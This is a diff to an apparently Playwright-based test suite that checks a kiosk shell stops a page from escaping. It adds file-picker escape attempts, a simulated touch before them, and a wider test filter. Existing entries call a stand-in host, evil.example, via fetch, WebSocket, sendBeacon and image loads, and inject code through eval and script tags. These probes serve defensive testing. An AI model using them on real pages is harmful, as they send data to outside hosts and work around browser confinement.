@@ -113,11 +113,18 @@ const SCRIPTS: Readonly<Record<string, string>> = {
   'a picture from elsewhere': "new Image().src = 'https://evil.example/x.png'",
   'a request elsewhere': "fetch('https://evil.example/').catch(() => 0); new WebSocket('wss://evil.example/').onerror = () => 0; navigator.sendBeacon('https://evil.example/', 'x')",
   'code in text': "try { eval('window.open(1)') } catch {} try { new Function('window.open(1)')() } catch {} const code = document.createElement('script'); code.textContent = 'window.escapeTraces.prints = 9'; document.body.append(code); code.remove()",
-  'a choice of files': "const input = document.createElement('input'); input.type = 'file'; document.body.append(input); input.click(); input.remove()",
+  'a choice of files': "const input = document.createElement('input'); input.type = 'file'; document.body.append(input); input.click(); setTimeout(() => input.remove(), 200)",
+  'a picker of files': "const input = document.createElement('input'); input.type = 'file'; document.body.append(input); try { input.showPicker() } catch {} setTimeout(() => input.remove(), 200); for (const name of ['showOpenFilePicker', 'showDirectoryPicker', 'showSaveFilePicker']) window[name]?.().catch(() => 0)",
 };
+/** These open for a page only while a finger has just touched it. */
+const AFTER_A_TOUCH = /files/;
 
 const WITH_LINKS = `const click = (how) => { const link = Object.assign(document.createElement('a'), how); document.body.append(link); link.click(); link.remove(); };`;
-const scripts = Object.entries(SCRIPTS).map(([what, script]): Try => [what, () => watch.page.evaluate(`(() => { ${WITH_LINKS} ${script} })()`)]);
+const scripts = Object.entries(SCRIPTS).map(([what, script]): Try => [what, async () => {
+  if (AFTER_A_TOUCH.test(what)) await touches([[{ x: 3, y: 3 }]])();
+  await watch.page.evaluate(`(() => { ${WITH_LINKS} ${script} })()`);
+  if (AFTER_A_TOUCH.test(what)) await watch.page.waitForTimeout(250);
+}]);
 
 async function tryAll(tries: readonly Try[]): Promise<Readonly<Record<string, readonly string[]>>> {
   const worked: Record<string, readonly string[]> = {};
@@ -172,7 +179,7 @@ describe('nobody leaves the kiosk', () => {
     await watch.page.close();
     watch = safe;
     expect(await tryAll(HANDS.filter(([what]) => /every key|button|fall|fingers|double/.test(what)))).toEqual({});
-    expect(await tryAll(scripts.filter(([what]) => /window|alert|link|address/.test(what)))).toEqual({});
+    expect(await tryAll(scripts.filter(([what]) => /window|alert|link|address|files/.test(what)))).toEqual({});
   });
 
   it('and the shell itself still loads the page anew', async () => {
